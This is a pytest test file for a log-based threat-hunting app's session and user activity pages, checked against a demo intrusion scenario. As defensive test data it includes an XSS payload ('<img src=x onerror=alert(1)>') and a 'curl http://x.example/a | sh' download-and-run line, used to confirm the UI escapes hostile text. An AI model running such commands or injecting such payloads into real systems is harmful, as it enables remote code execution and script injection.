"""Session detail and User activity pages on the demo, checked against the hunting functions."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from hunting.analysis import session_detail as sd
from hunting.analysis.cron import crontab_changes, new_cron_commands
from hunting.analysis.findings import mitre_url
from hunting.analysis.logons import logon_totals
from hunting.analysis.sessions import logon_sessions
from hunting.demo.scenario import demo_log_paths, demo_manifest
from hunting.sources.local import LocalSource
from hunting.timerange import TimeRange
from tests.app.conftest import no_exception, run_page

SESSION_PAGE = "pages/2_Session_detail.py"
USER_PAGE = "pages/3_User_activity.py"
WEB = {"host": "web01", "range": "7d"}


@pytest.fixture(scope="module")
def demo() -> dict[str, Any]:
    src = LocalSource.from_paths(demo_log_paths())
    truth = demo_manifest().truth

    def frames(host: str) -> dict[str, Any]:
        last = src.hosts(host).iloc[0]["LastSeen"]
        tr = TimeRange(last - pd.Timedelta(days=7), last)
        out: dict[str, Any] = {"tr": tr}
        for m in ("syslog", "logon_events", "sudo_events", "cron_events", "account_changes"):
            out[m] = getattr(src, m)(host, tr)
        return out

    web = frames("web01")
    sessions = logon_sessions(web["syslog"], web["logon_events"])
    intruder = sessions[
        (sessions["User"] == truth["compromised_user"])
        & (sessions["SourceIP"] == truth["attacker_ips"]["brute_force"])
    ]
    return {"truth": truth, "web": web, "db": frames("db01"), "session": intruder.iloc[0].to_dict()}


# The process-tree section (shared with the Process trees page, tested there) adds its own metrics.
_TREE_METRICS = {"Processes", "Trees", "Risky processes"}


def _metrics(at: Any) -> dict[str, str]:
    return {m.label: m.value for m in at.metric if m.label not in _TREE_METRICS}


def _expected_session_numbers(f: dict[str, Any], session: dict[str, Any] | None) -> dict[str, Any]:
    w = sd.session_window(session, f["tr"].start, f["tr"].end)
    sudo = sd.in_window(f["sudo_events"], w)
    cron = sd.in_window(f["cron_events"], w)
    accounts = sd.in_window(f["account_changes"], w)
    new = sd.in_window(
        new_cron_commands(f["cron_events"], baseline_end=sd.cron_baseline_end(f["cron_events"], w)),
        w,
        "FirstSeen",
    )
    flags = sd.flag_events(sudo, cron, accounts, new_cron=new)
    timeline = sd.session_timeline(sd.in_window(f["logon_events"], w), sudo, cron, accounts)
    counts = timeline["Kind"].value_counts()
    return {
        "metrics": {
            "sudo commands": f"{int(sudo['Command'].notna().sum()):,}",
            "Cron runs": f"{int((cron['Action'] == 'run').sum()):,}",
            "Crontab edits": f"{len(crontab_changes(cron)):,}",
            "Account changes": f"{len(accounts):,}",
            "Flagged events": f"{len(flags):,}",
        },
        "flags": flags,
        "timeline_caption": " · ".join(f"{k}: {int(counts.get(k, 0)):,}" for k in sd.KINDS),
        "sudo_counts": sd.sudo_command_counts(sudo),
    }


def _df(at: Any, column: str) -> pd.DataFrame:
    """The first dataframe on the page with ``column``."""
    for d in at.dataframe:
        if column in d.value.columns:
            return d.value
    raise AssertionError(f"no dataframe with column {column}")


def test_session_detail_whole_range_matches_functions(demo: dict[str, Any]) -> None:
    at = run_page(SESSION_PAGE, params=WEB)
    no_exception(at)
    assert at.title[0].value == "Session detail"
    exp = _expected_session_numbers(demo["web"], None)
    assert _metrics(at) == exp["metrics"]
    assert any(c.value == exp["timeline_caption"] for c in at.caption)
    specs = [json.loads(c.proto.spec) for c in at.get("vega_lite_chart")]
    assert any(
        s.get("mark", {}).get("type") == "tick" and s["encoding"]["y"]["field"] == "Kind" for s in specs
    )
    freq = _df(at, "Failures")
    assert freq[["Sudoer", "RunAs", "Command", "Count"]].values.tolist() == (
        exp["sudo_counts"][["Sudoer", "RunAs", "Command", "Count"]].values.tolist()
    )
    # every flag's ATT&CK ids are links in the list
    text = "\n".join(m.value for m in at.markdown)
    for techniques in exp["flags"]["Techniques"]:
        for t in sd.techniques_of(techniques):
            assert f"[{t}]({mitre_url(t)})" in text
    assert "https://attack.mitre.org/techniques/T1548/003/" in text


def test_session_detail_with_selected_session(demo: dict[str, Any]) -> None:
    session = demo["session"]
    at = run_page(SESSION_PAGE, params=WEB, state={"hunt_session": session})
    no_exception(at)
    exp = _expected_session_numbers(demo["web"], session)
    assert _metrics(at) == exp["metrics"]
    assert any(sd.session_label(session).split(",")[0] in i.value for i in at.info)
    assert sorted(exp["flags"]["RuleId"]) == sorted(_df(at, "RuleId")["RuleId"])
    assert any(c.value == exp["timeline_caption"] for c in at.caption)
    # the sudo table holds only the intruder's root shell
    assert _df(at, "Failures")["Sudoer"].tolist() == [demo["truth"]["compromised_user"]]

    at.button(key="session_clear").click().run()
    no_exception(at)
    assert "hunt_session" not in at.session_state
    assert _metrics(at) == _expected_session_numbers(demo["web"], None)["metrics"]


def test_session_detail_raw_messages_filters(demo: dict[str, Any]) -> None:
    at = run_page(SESSION_PAGE, params=WEB)
    at.multiselect(key="session_facilities").set_value(["cron"]).run()
    no_exception(at)
    raw = at.dataframe[-1].value
    syslog = demo["web"]["syslog"]
    assert len(raw) == min(int((syslog["Facility"] == "cron").sum()), 5000)
    assert set(raw["Facility"]) == {"cron"}
    at.multiselect(key="session_facilities").set_value([]).run()
    at.selectbox(key="session_sudo_command").set_value("/bin/bash").run()
    no_exception(at)
    raw = at.dataframe[-1].value
    expected = sd.sudo_raw_messages(syslog, demo["web"]["sudo_events"], "/bin/bash")
    assert raw["SyslogMessage"].tolist() == expected["SyslogMessage"].tolist()
    assert any("COMMAND=/bin/bash" in m for m in raw["SyslogMessage"])


def test_session_detail_burst_widgets_drive_the_flags(demo: dict[str, Any]) -> None:
    at = run_page(SESSION_PAGE, params=WEB)
    sessions = _df(at, "InBurst")
    assert not sessions["InBurst"].any()
    at.number_input(key="session_burst_n").set_value(2).run()
    at.number_input(key="session_burst_seconds").set_value(86_400).run()
    no_exception(at)
    sessions = _df(at, "InBurst")
    # alice ran sudo on more than one day, so 2 commands within a day is a "burst"
    assert sessions["InBurst"].sum() > 0


def test_session_detail_benign_host_and_other_host_session(demo: dict[str, Any]) -> None:
    at = run_page(
        SESSION_PAGE, params={"host": "db01", "range": "7d"}, state={"hunt_session": demo["session"]}
    )
    no_exception(at)
    assert any("not db01" in w.value for w in at.warning)  # the web01 session is not applied here
    exp = _expected_session_numbers(demo["db"], None)
    assert _metrics(at) == exp["metrics"]
    assert exp["flags"].empty
    assert any("Nothing flagged" in s.value for s in at.success)
    assert any("No account changes" in i.value for i in at.info)


def test_session_detail_bad_custom_rules_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # AppTest is not a loopback server: typed paths are read only inside the evidence roots
    # (hunting/evidence.py), so the folder holding the rules file is declared as one.
    monkeypatch.setenv("HUNTING_EVIDENCE_ROOTS", str(tmp_path))
    bad = tmp_path / "rules.yaml"
    bad.write_text("- id: x\n")
    at = run_page(SESSION_PAGE, params=WEB, state={"session_rules_path": str(bad)})
    no_exception(at)
    errors = [e.value for e in at.error]
    assert any("Custom rules not used" in e and "missing keys" in e for e in errors), errors
    assert _metrics(at)["Flagged events"] != "0"  # built-in rules still run


def test_session_detail_custom_rules_outside_roots_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rules path outside the evidence roots is refused in words, and the file is not read."""
    monkeypatch.setenv("HUNTING_EVIDENCE_ROOTS", str(tmp_path / "evidence"))
    (tmp_path / "evidence").mkdir()
    bad = tmp_path / "rules.yaml"
    bad.write_text("- id: x\n")
    at = run_page(SESSION_PAGE, params=WEB, state={"session_rules_path": str(bad)})
    no_exception(at)
    errors = [e.value for e in at.error]
    assert any("Custom rules not used" in e and "outside the evidence roots" in e for e in errors), errors
    assert not any("missing keys" in e for e in errors)  # the file's content was never parsed
    assert _metrics(at)["Flagged events"] != "0"


def test_user_activity_intruder_matches_functions(demo: dict[str, Any]) -> None:
    user = demo["truth"]["compromised_user"]
    at = run_page(USER_PAGE, params={**WEB, "user": user})
    no_exception(at)
    assert at.title[0].value == "User activity"
    assert at.selectbox(key="user").value == user
    logons = sd.user_logons(demo["web"]["logon_events"], user)
    totals = logon_totals(logons)
    sudo = sd.user_sudo(demo["web"]["sudo_events"], user)
    assert _metrics(at) == {
        "Successful logons": f"{totals['success']:,}",
        "Failed logons": f"{totals['failure']:,}",
        "Source IPs": f"{totals['source_ips']:,}",
        "sudo commands": f"{len(sudo):,}",
    }
    assert totals["success"] >= 1 and totals["source_ips"] >= 1
    by_process = _df(at, "ProcessName")
    assert by_process.values.tolist() == sd.results_by_process(logons).values.tolist()
    ips = _df(at, "CountryName")
    assert demo["truth"]["attacker_ips"]["brute_force"] in set(ips["Ip"])
    specs = [json.loads(c.proto.spec) for c in at.get("vega_lite_chart")]
    assert any("layer" in s for s in specs)  # the world map
    freq = _df(at, "Risk")
    assert freq[["Command", "Count"]].values.tolist() == (
        sd.sudo_command_counts(sudo)[["Command", "Count"]].values.tolist()
    )
    raw = at.dataframe[-1].value
    assert any(f"{user} : " in m and "COMMAND=" in m for m in raw["SyslogMessage"])


def test_user_activity_user_without_sudo(demo: dict[str, Any]) -> None:
    user = demo["truth"]["new_account"]
    at = run_page(USER_PAGE, params={**WEB, "user": user})
    no_exception(at)
    assert at.selectbox(key="user").value == user
    assert _metrics(at)["sudo commands"] == "0"
    assert any("ran no sudo commands" in i.value for i in at.info)
    totals = logon_totals(sd.user_logons(demo["web"]["logon_events"], user))
    assert _metrics(at)["Successful logons"] == f"{totals['success']:,}"


def test_user_activity_benign_host_default_user(demo: dict[str, Any]) -> None:
    at = run_page(USER_PAGE, params={"host": "db01", "range": "7d"})
    no_exception(at)
    users = sd.users_seen(demo["db"]["logon_events"], demo["db"]["sudo_events"])
    assert at.selectbox(key="user").value == users["User"].iloc[0]
    assert len(at.selectbox(key="user").options) == len(users)


def test_session_detail_hostile_session_text_escaped(demo: dict[str, Any]) -> None:
    hostile = dict(demo["session"], User="<img src=x onerror=alert(1)>", SessionType="**sshd**")
    at = run_page(SESSION_PAGE, params=WEB, state={"hunt_session": hostile})
    no_exception(at)
    info = next(i.value for i in at.info if "Session:" in i.value)
    assert "\\<img src\\=x onerror\\=alert\\(1\\)\\>" in info
    assert "<img" not in info.replace("\\<img", "")
    assert "\\*\\*sshd\\*\\*" in info


def test_code_span_cannot_be_closed_by_the_text() -> None:
    from ui.session_views import code_span

    span = code_span("curl http://x.example/a | sh ``` `x`\nnext")
    assert span.startswith("```` ") and span.endswith(" ````")
    assert "\n" not in span
    assert "````" not in span[4:-4]
